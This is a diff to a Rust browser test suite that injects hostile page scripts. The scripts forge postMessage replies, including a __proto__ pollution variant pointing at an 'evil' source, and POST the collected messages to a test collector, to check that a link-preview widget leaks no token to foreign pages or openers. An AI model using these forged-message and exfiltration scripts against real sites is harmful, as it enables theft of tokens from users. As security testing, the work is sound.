@@ -259,14 +259,17 @@ async fn no_script_finds_the_token(cx: &Cx) -> Result<()> {
     let script = format!(
         "const found = [];
          addEventListener('message', ({{ data, origin }}) => found.push(`${{origin}} ${{JSON.stringify(data)}}`));
+         const inside = (view) => (view?.length > 0 ? view[0] : null);
+         let forged = 0;
          const forge = () => {{
-           for (const frame of [frames[0], frames[0]?.frames[0], opener, opener?.frames[0]]) {{
+           for (const frame of [inside(window), inside(inside(window)), opener, inside(opener)]) {{
              if (!frame) continue;
+             forged += 1;
              const answers = [
-               {{ c2c: 'preview', src: '{evil}' }},
+               {{ c2c: 'preview', app: '{app}', src: '{evil}?forged' }},
                {{ c2c: 'preview-wait' }},
                {{ c2c: 'preview?', app: '{app}' }},
-               JSON.parse('{{\"__proto__\": {{\"c2c\": \"preview\", \"src\": \"{evil}\"}}}}'),
+               JSON.parse('{{\"__proto__\": {{\"c2c\": \"preview\", \"app\": \"{app}\", \"src\": \"{evil}?forged\"}}}}'),
                null, 'preview', 7,
              ];
              for (const answer of answers) frame.postMessage(answer, '*');
@@ -275,7 +278,7 @@ async fn no_script_finds_the_token(cx: &Cx) -> Result<()> {
          const forging = setInterval(forge, 1);
          setTimeout(() => {{
            clearInterval(forging);
-           const body = JSON.stringify([...found, ...{ADDRESSES}]);
+           const body = JSON.stringify([`forged ${{forged > 100}}`, ...found, ...{ADDRESSES}]);
            fetch('{hit}', {{ method: 'POST', body }});
          }}, 3000);",
         app = app.id,
@@ -294,6 +297,7 @@ async fn no_script_finds_the_token(cx: &Cx) -> Result<()> {
     let sandbox = format!("{}/preview-link/", cx.server().await?.sandbox);
     assert!(seen[0].as_str().is_some_and(|own| own.starts_with(&sandbox)), "{seen}");
     assert!(read.as_array().context("a list")?.contains(&json!(page)), "{read}");
+    assert_eq!(read[0], "forged true");
     // The page got none of the messages between the widget and the page of the link.
     let messages = read.to_string();
     assert!(
@@ -323,12 +327,13 @@ async fn a_foreign_opener_gets_no_question(cx: &Cx) -> Result<()> {
          document.querySelector('#open').onclick = () => {{
            const view = open('{}');
            setInterval(() => {{
-             for (const answer of [{{ c2c: 'preview-wait' }}, {{ c2c: 'preview', src: '{evil}?forged' }}]) {{
+             for (const answer of [{{ c2c: 'preview-wait' }}, {{ c2c: 'preview', app: '{app}', src: '{evil}?forged' }}]) {{
                view.frames[0]?.postMessage(answer, '*');
              }}
            }}, 1);
          }};</script>",
-        app.parent_url("")
+        app.parent_url(""),
+        app = app.id,
     );
     let page = cx.collector.page("/foreign", script, &[]);
     cx.browser.goto(&page).await?;
